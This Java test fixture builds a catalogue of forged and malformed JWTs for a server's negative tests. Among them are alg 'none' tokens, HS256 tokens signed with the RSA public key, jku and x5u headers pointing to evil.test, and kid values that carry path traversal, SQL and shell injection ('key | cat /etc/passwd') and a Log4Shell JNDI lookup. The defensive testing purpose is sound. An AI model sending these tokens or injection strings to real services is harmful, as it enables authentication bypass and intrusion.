package dev.echowall.testing;

import static dev.echowall.testing.Tokens.SECRET;
import static dev.echowall.testing.Tokens.hs256;
import static dev.echowall.testing.Tokens.in;
import static dev.echowall.testing.Tokens.parts;
import static dev.echowall.testing.Tokens.url;

import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Tokens that somebody tries who has none, by what is wrong with them; for a server whose secret is {@link Tokens#SECRET},
 * whose public key is {@link #RSA}'s, whose issuer is {@code https://login.test} and whose audience is {@code wall}. Most are
 * signed rightly, so that nothing but what they are named for is wrong with them.
 */
public final class HostileTokens {
    public static final KeyPair RSA = Tokens.rsa(2048);
    public static final String ISSUER = "https://login.test";
    public static final String AUDIENCE = "wall";

    private static final String HEADER = "{\"alg\":\"HS256\",\"typ\":\"JWT\"}";
    private static final byte[] NOTHING = {};

    private final Map<String, String> all = new LinkedHashMap<>();

    private HostileTokens() {}

    /** Each by what is wrong with it. */
    public static Map<String, String> all() {
        HostileTokens tokens = new HostileTokens();
        tokens.withoutSignature();
        tokens.withAnotherKey();
        tokens.withHeadersThatAskForMore();
        tokens.withKeyNamesThatAreNone();
        tokens.withTimesThatAreNone();
        tokens.withClaimsThatAreNotOurs();
        tokens.withoutForm();
        return tokens.all;
    }

    /** Claims with which nothing is wrong. */
    public static String claims() {
        return claims("");
    }

    /**
     * @param more beginning with a comma, if anything
     */
    public static String claims(String more) {
        return "{\"sub\":\"42\",\"iss\":\"" + ISSUER + "\",\"aud\":\"" + AUDIENCE + "\",\"exp\":" + in(3600) + more
                + "}";
    }

    /** One with which nothing is wrong: or the others would be refused for what they are not named for. */
    public static String good() {
        return hs256(HEADER, claims(), SECRET);
    }

    private void withoutSignature() {
        for (String none : new String[] {"none", "None", "NONE", "nOnE", "none ", "", "null"}) {
            String header = "{\"alg\":\"" + none + "\"}";
            all.put("alg '" + none + "' and no signature", parts(header, claims(), NOTHING));
            all.put("alg '" + none + "' and the right signature", hs256(header, claims(), SECRET));
        }
        all.put("no alg at all", hs256("{\"typ\":\"JWT\"}", claims(), SECRET));
        all.put("alg null", hs256("{\"alg\":null}", claims(), SECRET));
        all.put("alg as a list", hs256("{\"alg\":[\"HS256\"]}", claims(), SECRET));
        all.put("alg in lower case", hs256("{\"alg\":\"hs256\"}", claims(), SECRET));
        all.put("an empty signature", parts(HEADER, claims(), NOTHING));
        all.put("a signature of zeros", parts(HEADER, claims(), new byte[32]));
        all.put("half a signature", good().substring(0, good().lastIndexOf('.') + 22));
        all.put("claims changed after signing", changed(good()));
        all.put("the signature of another token", good().substring(0, good().lastIndexOf('.')) + ".AAAA");
    }

    private void withAnotherKey() {
        String pem = Tokens.pem(RSA.getPublic());
        byte[] der = RSA.getPublic().getEncoded();
        all.put("HS256 with the public key in PEM as its secret", hs256(HEADER, claims(), pem));
        all.put("HS256 with the public key in PEM, stripped", hs256(HEADER, claims(), pem.strip()));
        all.put("HS256 with the public key in DER", hs256(HEADER, claims(), der));
        all.put("HS256 with another secret", hs256(HEADER, claims(), "another secret of thirty-two bytes"));
        all.put("HS256 with a secret of one zero", hs256(HEADER, claims(), new byte[1]));
        all.put("RS256 over an HMAC of the secret", hs256("{\"alg\":\"RS256\"}", claims(), SECRET));
        all.put("HS512 over an HS256", hs256("{\"alg\":\"HS512\"}", claims(), SECRET));
        all.put(
                "RS256 of another key",
                Tokens.signed("SHA256withRSA", Tokens.rsa(2048).getPrivate(), "{\"alg\":\"RS256\"}", claims()));
        all.put(
                "ES256 of a key that is not known",
                Tokens.signed(
                        "SHA256withECDSAinP1363Format",
                        Tokens.ec("secp256r1").getPrivate(),
                        "{\"alg\":\"ES256\"}",
                        claims()));
        all.put("ES256 with r and s of zero", parts("{\"alg\":\"ES256\"}", claims(), new byte[64]));
        all.put("ES256K", parts("{\"alg\":\"ES256K\"}", claims(), new byte[64]));
        all.put("EdDSA of zeros", parts("{\"alg\":\"EdDSA\"}", claims(), new byte[64]));
    }

    private void withHeadersThatAskForMore() {
        header("crit of exp", "\"crit\":[\"exp\"]");
        header("an empty crit", "\"crit\":[]");
        header("b64 false", "\"b64\":false,\"crit\":[\"b64\"]");
        header("b64 false without crit", "\"b64\":false");
        header("a jku", "\"jku\":\"https://evil.test/keys\"");
        header("a jku of this machine", "\"jku\":\"http://127.0.0.1:9080/metrics\"");
        header("an x5u", "\"x5u\":\"https://evil.test/cert\"");
        header("an x5c", "\"x5c\":[\"MIIB\"]");
        header("a key of its own", "\"jwk\":{\"kty\":\"oct\",\"k\":\"AAAA\"}");
        header("zip", "\"zip\":\"DEF\"");
        header("alg twice", "\"alg\":\"HS256\"");
        all.put("alg twice, none at last", parts("{\"alg\":\"HS256\",\"alg\":\"none\"}", claims(), NOTHING));
    }

    private void withKeyNamesThatAreNone() {
        for (String id : new String[] {
            "../../../../../../dev/null",
            "/proc/sys/../version",
            "' OR '1'='1",
            "x' UNION SELECT 'secret'; --",
            "key | cat /etc/passwd",
            "a\\u0000b",
            "a\\r\\nX-User: 1",
            "${jndi:ldap://evil.test/a}",
            ""
        }) {
            header("kid " + id, "\"kid\":\"" + id + "\"");
        }
        header("kid of 1000 letters", "\"kid\":\"" + "k".repeat(1000) + "\"");
        header("kid as a number", "\"kid\":1");
        header("kid as an object", "\"kid\":{}");
        all.put(
                "kid of an empty file, and its content as the secret",
                hs256("{\"alg\":\"HS256\",\"kid\":\"../../dev/null\"}", claims(), new byte[1]));
    }

    private void withTimesThatAreNone() {
        for (String time : new String[] {
            "\"" + in(3600) + "\"",
            "\"never\"",
            "-1",
            "0",
            "0.5",
            "1e30",
            "1e999",
            "99999999999999999999999",
            "true",
            "null",
            "[]",
            "{\"$gt\":0}",
            in(3600) + "000"
        }) {
            withClaims("exp " + time, claims().replaceFirst("\"exp\":[0-9]+", "\"exp\":" + time.replace("$", "\\$")));
        }
        withClaims("nbf as text", claims(",\"nbf\":\"1\""));
        withClaims("nbf negative", claims(",\"nbf\":-5"));
        withClaims("iat huge", claims(",\"iat\":1e300"));
    }

    private void withClaimsThatAreNotOurs() {
        withClaims("exp twice", claims(",\"exp\":" + in(7200)));
        withClaims("sub twice", claims(",\"sub\":\"admin\""));
        withClaims("sub twice, once escaped", claims(",\"s\\u0075b\":\"admin\""));
        withClaims("a sub that is a number", claims().replace("\"42\"", "42"));
        withClaims("a sub that is null", claims().replace("\"42\"", "null"));
        withClaims("a sub of 10000 bits", claims().replace("\"42\"", "\"" + "4".repeat(1250) + "\""));
        withClaims("a sub with the end of a line", claims().replace("\"42\"", "\"4\\n2\""));
        withClaims("a sub with half a character", claims().replace("\"42\"", "\"\\ud800\""));
        withClaims("no issuer", claims().replace("\"iss\"", "\"was\""));
        withClaims("another issuer", claims().replace(ISSUER, ISSUER + ".evil.test"));
        withClaims("issuer as a list", claims().replace("\"" + ISSUER + "\"", "[\"" + ISSUER + "\"]"));
        withClaims("no audience", claims().replace("\"aud\"", "\"was\""));
        withClaims("another audience", claims().replace("\"" + AUDIENCE + "\"", "\"wallet\""));
        withClaims("audience as an object", claims().replace("\"" + AUDIENCE + "\"", "{\"wall\":true}"));
        withClaims("a token for a channel", claims(",\"channel\":\"news\""));
        withClaims("channel null", claims(",\"channel\":null"));
        withClaims("channels as text", claims(",\"channels\":\"news\""));
        withClaims("a channel that has no name of one", claims(",\"channels\":[\"a b\"]"));
        withClaims("subs as a list", claims(",\"subs\":[\"news\"]"));
        withClaims("caps as an object", claims(",\"caps\":{\"channels\":[\"*\"],\"allow\":[\"sub\"]}"));
        withClaims("a cap of a right that is none", claims(",\"caps\":[{\"channels\":[\"*\"],\"allow\":[\"all\"]}]"));
        withClaims(
                "a cap with a condition",
                claims(",\"caps\":[{\"channels\":[\".*\"],\"match\":\"regex\",\"allow\":[\"sub\"]}]"));
        withClaims(
                "a cap with a star in the middle", claims(",\"caps\":[{\"channels\":[\"a*b\"],\"allow\":[\"sub\"]}]"));
        withClaims("b64info that is none", claims(",\"b64info\":\"%%%\""));
        withClaims("claims 100 deep", claims(",\"info\":" + "[".repeat(100) + "]".repeat(100)));
        withClaims("a list of claims", "[" + claims() + "]");
        withClaims("claims and more", claims() + "{}");
        withClaims("claims without an end", claims().substring(0, 20));
        withClaims("claims with a comment", "/* */" + claims());
        withClaims("a number with 5000 digits", claims(",\"n\":" + "9".repeat(5000)));
        all.put("claims in UTF-16", utf16());
    }

    private void withoutForm() {
        all.put("nothing", "");
        all.put("a dot", ".");
        all.put("two dots", "..");
        all.put("a word", "undefined");
        all.put("two parts", good().substring(0, good().lastIndexOf('.')));
        all.put("four parts", good() + ".AAAA");
        all.put("five parts, as if encrypted", good() + ".AAAA.AAAA");
        all.put("an end that is padded", good() + "=");
        all.put("base64 that is not for URLs", good().replace('.', '+'));
        all.put("a blank in it", good().replaceFirst("\\.", ". "));
        all.put("last bits that stand for nothing", otherSpelling(good()));
        all.put("a header that is no JSON", hs256("HS256", claims(), SECRET));
        all.put("a header that is a list", hs256("[]", claims(), SECRET));
        all.put("typ as a number", hs256("{\"alg\":\"HS256\",\"typ\":1}", claims(), SECRET));
        all.put("letters of another script", "еуJhbGciOiJIUzI1NiJ9.e30.AAAA");
        all.put("64 KB, signed rightly", hs256(HEADER, claims(",\"x\":\"" + "x".repeat(48 << 10) + "\""), SECRET));
        all.put("64 KB of dots", ".".repeat(64 << 10));
    }

    private void header(String name, String more) {
        all.put(name, hs256("{\"alg\":\"HS256\"," + more + "}", claims(), SECRET));
    }

    private void withClaims(String name, String claims) {
        all.put(name, hs256(HEADER, claims, SECRET));
    }

    private static String changed(String token) {
        String[] parts = token.split("\\.", -1);
        return parts[0] + "." + url(claims(",\"caps\":[]").getBytes(StandardCharsets.UTF_8)) + "." + parts[2];
    }

    private static String utf16() {
        byte[] claims = claims().getBytes(StandardCharsets.UTF_16);
        return Tokens.hs256(HEADER.getBytes(StandardCharsets.UTF_8), claims, SECRET.getBytes(StandardCharsets.UTF_8));
    }

    /* 32 bytes are 43 letters, of whose last two bits nothing is used. */
    private static String otherSpelling(String token) {
        String letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        int last = letters.indexOf(token.charAt(token.length() - 1));
        return token.substring(0, token.length() - 1) + letters.charAt(last + 1);
    }
}
